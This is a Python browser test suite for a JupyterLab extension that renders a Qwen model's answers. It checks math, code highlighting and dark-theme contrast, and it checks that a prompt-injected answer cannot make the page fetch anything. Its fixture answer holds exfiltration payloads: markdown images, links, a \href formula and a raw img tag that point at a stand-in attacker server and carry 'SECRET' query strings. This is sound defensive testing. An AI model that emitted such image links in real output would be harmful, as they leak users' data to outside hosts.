"""The static renderer as a person sees it in JupyterLab (Debian Chromium): math typeset
as MathML, highlighted code blocks, every element readable in the dark theme, and hostile
model output that makes the page fetch nothing (issue 11 §2)."""

from __future__ import annotations

import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from browser_support import show_export_offline
from fake_server import Reply

pytestmark = pytest.mark.browser

QWEN_CELL = 2  # the %%qwen cell of notebooks/magic.ipynb


class Attacker:
    """A second local server standing for the host a prompt-injected answer names: it
    counts every request that reaches it (there must be none) and stops itself."""

    def __init__(self, lifetime: float = 900.0) -> None:
        hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def _hit(self) -> None:
                hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_HEAD = do_OPTIONS = _hit

            def log_message(self, *args: object) -> None:
                pass

        self.hits = hits
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.timer = threading.Timer(lifetime, self.server.shutdown)
        self.timer.daemon = True

    def start(self) -> Attacker:
        self.thread.start()
        self.timer.start()
        return self

    def stop(self) -> None:
        self.timer.cancel()
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def attacker():
    server = Attacker().start()
    yield server
    server.stop()


def expect():
    from playwright.sync_api import expect

    return expect


ANSWER = """## Math in four delimiters

Dollars inline $E = mc^2$, and displayed:

$$\\int_0^1 x\\,dx = \\frac{{1}}{{2}}$$

Brackets inline \\(a^2 + b^2 = c^2\\), and displayed:

\\[
\\mathbf{{A}}\\mathbf{{x}} = \\mathbf{{b}}
\\]

Code keeps its dollars: `$not math$`.

| quantity | symbol |
| --- | --- |
| energy | E |
| momentum | p |

- first item
- second item

```python
def energy(mass):
    return mass * 299_792_458 ** 2  # joules
```
```bash
echo "second block"
```

Images from elsewhere: ![leak](http://{host}/leak.png?d=SECRET-1)
and ![ref][r] and <http://{host}/auto.png> and ![proto](//{host}/proto.png)
and a formula that links: $\\href{{http://{host}/math}}{{x}}$.
A tiny inline picture: ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)

[r]: http://{host}/ref.png?d=SECRET-2

RENDER-MARKER"""
THINKING = ("Thinking about ![t](http://{host}/think.png) and <img src=\"http://{host}/raw.png\">"
            " before answering. THINK-MARKER")


def count_requests(page, host: str) -> list[str]:
    """Every request the page makes from now on that names `host`."""
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url) if host in request.url else None)
    return seen


def check_rendered(box, host: str) -> None:
    check = expect()
    answer = box.locator(".qwen-nb-answer")
    check(answer).to_contain_text("RENDER-MARKER")
    maths = answer.locator("math")
    check(maths).to_have_count(5)  # four delimiters and the \href one
    for index in range(4):
        math = maths.nth(index)
        check(math).to_be_visible()
        shape = math.evaluate(
            "(m) => { const r = m.getBoundingClientRect(); return {w: r.width, h: r.height,"
            " display: getComputedStyle(m).display}; }")
        # Laid out by the browser's MathML engine (display "block math"/"inline math").
        assert "math" in shape["display"] and shape["w"] > 5 and shape["h"] > 5, shape
    check(answer).not_to_contain_text("\\mathbf")  # the TeX source is not drawn
    check(answer).not_to_contain_text("\\[")
    check(answer).not_to_contain_text("$$")
    check(answer.locator("code", has_text="$not math$")).to_have_count(1)
    # Tables and lists are written without their optional end tags: the same tree.
    assert_table_and_list(answer)
    blocks = answer.locator(".qwen-nb-code")
    check(blocks).to_have_count(2)
    check(blocks.nth(0).locator(".qwen-nb-code-label")).to_have_text("python")
    check(blocks.nth(1)).to_have_attribute("data-lang", "bash")
    colours = blocks.nth(0).evaluate(
        "(b) => [getComputedStyle(b.querySelector('.k')).color,"
        " getComputedStyle(b.querySelector('pre')).color,"
        " getComputedStyle(b.querySelector('.c')).color]")
    assert colours[0] != colours[1] and colours[2] != colours[1], colours  # highlighted
    first, second = (blocks.nth(i).bounding_box() for i in range(2))
    assert second["y"] >= first["y"] + first["height"] + 4  # a visible gap between blocks
    border = blocks.nth(0).evaluate("(b) => getComputedStyle(b).borderTopWidth")
    assert border != "0px"
    links = answer.locator("a.qwen-nb-image-link")
    check(links).to_have_count(2)  # inline and reference-style; //host is not even a link
    check(links.first).to_have_text(f"image: {host}/leak.png")
    # JupyterLab rewrites rel to "noopener"; elsewhere it stays "noreferrer" (which implies
    # noopener); the referrer policy stays in both.
    check(links.first).to_have_attribute("rel", re.compile(r"\bno(opener|referrer)\b"))
    check(links.first).to_have_attribute("referrerpolicy", "no-referrer")
    check(links.first).to_have_attribute("target", "_blank")
    sources = box.evaluate("(b) => [...b.querySelectorAll('img')].map(i => i.src)")
    assert sources and all(src.startswith("data:image/") for src in sources), sources



def assert_table_and_list(answer) -> None:
    """The answer's table and list, read back from the DOM: whole rows, cells and items."""
    cells = answer.locator("table").evaluate(
        "(t) => [...t.rows].map(r => [...r.cells].map(c => c.textContent))")
    assert cells == [["quantity", "symbol"], ["energy", "E"], ["momentum", "p"]], cells
    items = answer.locator("ul").first.evaluate(
        "(u) => [...u.children].map(li => li.tagName + ':' + li.textContent)")
    assert items == ["LI:first item", "LI:second item"], items

def test_math_code_and_remote_images_fetch_nothing(open_notebook, model, attacker, page, lab,
                                                   tmp_path, screenshot):
    host = attacker.host
    fetched = count_requests(page, host)
    model.default_reply = Reply(thinking=THINKING.format(host=host),
                                answer=ANSWER.format(host=host), chunk_chars=12)
    nb = open_notebook("magic.ipynb", as_name="render.ipynb")
    nb.run_all()
    box = nb.cell_output(QWEN_CELL).locator("div.qwen-nb")
    check_rendered(box, host)
    box.locator("label", has_text="Thinking").click()
    thinking = box.locator(".qwen-nb-thinking")
    check = expect()
    check(thinking).to_contain_text("THINK-MARKER")
    check(thinking).to_contain_text(f"http://{host}/raw.png")  # shown as text
    box.locator("label", has_text="Answer").click()
    box.scroll_into_view_if_needed()
    screenshot("render-math-code-links")

    nb.save()
    nb.reload()
    box = nb.cell_output(QWEN_CELL).locator("div.qwen-nb")
    check_rendered(box, host)
    screenshot("render-reloaded")

    blocked = show_export_offline(page, lab.root / nb.path, tmp_path)
    check_rendered(page.locator("div.qwen-nb"), host)
    screenshot("render-nbconvert-offline")
    time.sleep(1)  # let anything the page might still try arrive
    assert [url for url in blocked if host in url] == []
    assert fetched == [], fetched
    assert attacker.hits == [], attacker.hits


CONTRAST = """(root) => {
  const parse = (c) => {
    const m = c.match(/rgba?\\(([^)]+)\\)/);
    if (!m) return [0, 0, 0, 0];
    const p = m[1].split(/[\\s,\\/]+/).filter(Boolean).map(Number);
    return [p[0], p[1], p[2], p.length > 3 ? p[3] : 1];
  };
  const over = (top, under) => under.map((v, i) => top[i] * top[3] + v * (1 - top[3]));
  const background = (el) => {
    const layers = [];
    for (let e = el; e; e = e.parentElement) {
      const c = parse(getComputedStyle(e).backgroundColor);
      if (c[3] > 0) { layers.push(c); if (c[3] >= 1) break; }
    }
    let out = [255, 255, 255];
    for (const c of layers.reverse()) out = over(c, out);
    return out;
  };
  const lum = (rgb) => {
    const f = (v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; };
    return 0.2126 * f(rgb[0]) + 0.7152 * f(rgb[1]) + 0.0722 * f(rgb[2]);
  };
  const found = [];
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const node = walker.currentNode;
    if (!node.textContent.trim()) continue;
    const el = node.parentElement;
    const box = el.getBoundingClientRect();
    const style = getComputedStyle(el);
    if (!box.width || !box.height || style.visibility === 'hidden' || style.opacity === '0')
      continue;
    const bg = background(el);
    const fg = over(parse(style.color), bg);
    const [a, b] = [lum(fg), lum(bg)].sort((x, y) => y - x);
    found.push({text: node.textContent.trim().slice(0, 30), tag: el.tagName,
                cls: String(el.className), ratio: (a + 0.05) / (b + 0.05)});
  }
  return found;
}"""
SET_THEME = """async (theme) => {
  await window.jupyterapp.commands.execute('apputils:change-theme', {theme});
}"""


def test_every_element_is_readable_in_the_dark_theme(open_notebook, model, attacker, page,
                                                     screenshot):
    check = expect()
    model.default_reply = Reply(thinking=THINKING.format(host=attacker.host),
                                answer=ANSWER.format(host=attacker.host), finish_reason="length")
    nb = open_notebook("magic.ipynb", as_name="dark.ipynb")
    page.evaluate(SET_THEME, "JupyterLab Dark")
    try:
        page.wait_for_selector('body[data-jp-theme-light="false"]', state="attached")
        nb.run_all()
        box = nb.cell_output(QWEN_CELL).locator("div.qwen-nb")
        check(box.locator(".qwen-nb-notice")).to_contain_text("token limit")
        low = []
        for tab in ("Answer", "Thinking", "Details"):
            box.locator("label", has_text=tab).click()
            found = box.evaluate(CONTRAST)
            assert len(found) > 3, (tab, found)
            low += [item for item in found if item["ratio"] < 4.5]
            box.scroll_into_view_if_needed()
            screenshot(f"render-dark-{tab.lower()}")
        assert low == [], low
    finally:
        page.evaluate(SET_THEME, "JupyterLab Light")
        page.wait_for_selector('body[data-jp-theme-light="true"]', state="attached")


def test_an_untrusted_notebook_shows_whole_tables_and_lists_and_no_tex_twice(
        open_notebook, attacker, page, tmp_path, screenshot):
    # A notebook from elsewhere (unsigned): JupyterLab passes its HTML outputs through its
    # sanitizer, which re-parses the markup (the omitted end tags too), drops <style> and
    # MathML but keeps their text: a TeX annotation would show beside each formula.
    import nbformat

    from qwen_nb._types import QwenResponse
    from qwen_nb.render import static_bundle

    host = attacker.host
    fetched = count_requests(page, host)
    response = QwenResponse(answer=ANSWER.format(host=host), thinking="Because.")
    data, metadata = static_bundle(response)
    notebook = nbformat.v4.new_notebook(metadata={"kernelspec": {
        "display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"}})
    notebook.cells = [nbformat.v4.new_code_cell("%%qwen\nExplain", outputs=[
        nbformat.v4.new_output("display_data", data=data, metadata=metadata)])]
    path = tmp_path / "untrusted.ipynb"
    nbformat.write(notebook, path)
    nb = open_notebook(str(path))
    box = nb.cell_output(0)
    answer = box.locator(".qwen-nb-answer")
    check = expect()
    check(answer).to_contain_text("RENDER-MARKER")
    assert_table_and_list(answer)
    check(answer).to_contain_text("Dollars inline E=mc2, and displayed")
    check(answer).not_to_contain_text("mc^2")
    screenshot("render-untrusted")
    assert fetched == [] and attacker.hits == []
